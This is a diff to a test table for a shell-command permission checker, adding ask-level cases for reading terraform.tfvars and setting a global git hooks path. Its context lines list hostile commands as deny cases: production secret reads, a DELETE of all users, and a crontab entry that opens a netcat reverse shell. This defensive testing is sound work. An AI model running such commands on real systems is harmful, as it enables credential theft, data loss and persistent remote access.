@@ -94,6 +94,8 @@ CASES: dict[str, list[tuple[str, str | None]]] = {
         ("vault kv get secret/prod/db", "deny"),
         ("aws secretsmanager get-secret-value --secret-id prod/db", "deny"),
         ("vault status", None),
+        ("cat infra/terraform.tfvars", "ask"),
+        ("cat infra/main.tf", None),
     ],
     "4-client-destruction": [
         ('mysql app -e "DELETE FROM users WHERE 1=1"', "deny"),
@@ -135,6 +137,8 @@ CASES: dict[str, list[tuple[str, str | None]]] = {
         ("(crontab -l; echo '@reboot nc -e /bin/sh 10.0.0.1 4444') | crontab -", "deny"),
         ("echo 'source .venv/bin/activate' >> .envrc", None),
         ("git config user.email dev@example.com", None),
+        ("git config --global core.hooksPath ~/.githooks", "ask"),
+        ("git config --global user.name 'Dev'", None),
         ("crontab -l", None),
     ],
     "6-classic-dangers": [
